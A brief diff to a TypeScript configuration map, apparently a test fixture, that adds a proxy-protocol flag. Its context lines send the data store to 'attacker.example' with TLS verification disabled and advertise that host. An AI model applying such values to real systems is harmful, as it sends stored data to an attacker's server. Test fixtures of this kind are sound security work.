@@ -19,6 +19,7 @@ const VALUES: Record<string, unknown> = {
   "serve.listen": "0.0.0.0:4300",
   "serve.metrics": "0.0.0.0:9464",
   "serve.maxFrame": "256mb",
+  "serve.proxyProtocol": true,
   store: "rediss://attacker.example:6379/0",
   "storeOptions.insecure": true,
   "host.advertise": "attacker.example:4300",
